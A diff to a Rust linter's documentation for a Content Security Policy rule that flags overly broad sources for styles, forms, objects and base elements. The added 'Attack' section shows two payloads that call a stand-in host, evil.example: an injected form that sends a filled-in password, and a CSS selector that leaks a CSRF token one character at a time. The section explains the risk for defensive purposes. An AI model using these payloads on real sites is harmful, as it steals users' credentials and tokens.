@@ -10,16 +10,32 @@ use std::collections::BTreeSet;
 lint! {
     /// # What it does
     ///
-    /// Looks for `*`, `https`, `http`, `data`, `*.com` or `*.github.io` where it defeats the directive: in lists that
-    /// decide about styles, objects, `base` elements and forms, and for those that name hosts in one about connections.
-    /// Beside a nonce, a broad `base_uri` is an error, and one with every host below a name a warning. Images, fonts,
-    /// media and frames are not reported: what they load from anywhere neither runs nor reads the page. Where the same
-    /// source decides about scripts, `csp_script_broad_source` reports it instead.
+    /// Looks for `*`, `https`, `http`, `data`, `"*.com"`, `"*.github.io"` and the like in the lists that take effect
+    /// for styles, objects, `base` elements and forms. In the list for connections, only sources that name hosts are
+    /// reported. In a policy with a nonce, a broad `base_uri` is an error, and one that matches every subdomain of a
+    /// name is a warning.
+    ///
+    /// Images, fonts, media and frames are not reported, since they neither run in the page nor read it. A broad source
+    /// for scripts is reported by `csp_script_broad_source`.
     ///
     /// # Why it matters
     ///
-    /// Injected CSS from anywhere reads form fields off the page. A form that may go anywhere goes to the attacker. A
-    /// directive that names everyone says no more than its absence.
+    /// A directive that matches every host restricts nothing. What it lets in is not harmless: stylesheets can read the
+    /// page, a form sends what the user types, and a `base` element decides where relative URLs lead.
+    ///
+    /// # Attack
+    ///
+    /// An injected form sends the password that the browser fills in:
+    ///
+    /// ```html
+    /// <form action="https://evil.example/"><input name="user"><input type="password" name="password"><button>Continue</button></form>
+    /// ```
+    ///
+    /// A stylesheet from anywhere reads a token, one character at a time:
+    ///
+    /// ```css
+    /// input[name="csrf"][value^="a"] { background: url("https://evil.example/?a") }
+    /// ```
     ///
     /// # Example
     ///
@@ -29,14 +45,26 @@ lint! {
     ///
     /// # Fix
     ///
+    /// Name the hosts.
+    ///
     /// ```text
     /// content_security_policy: { default_src: self, form_action: [self, "https://pay.example.com"], img_src: * },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_broad_source, reason = "merchants enter the address that their checkout form is sent to")]
+    /// form_action: *,
+    /// ```
+    ///
+    /// Reasonable where the hosts are known only to your users, and the page has nothing on it that is worth stealing.
+    ///
     /// # References
     ///
     /// - [CSP3, section 6.7.2.8](https://w3c.github.io/webappsec-csp/#match-url-to-source-expression)
-    Warn "anyone can supply what this directive lets in", check
+    /// - [CSP3, section 6.4.1, form-action](https://w3c.github.io/webappsec-csp/#directive-form-action)
+    Warn "a source that matches everyone in a directive where that is dangerous", check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
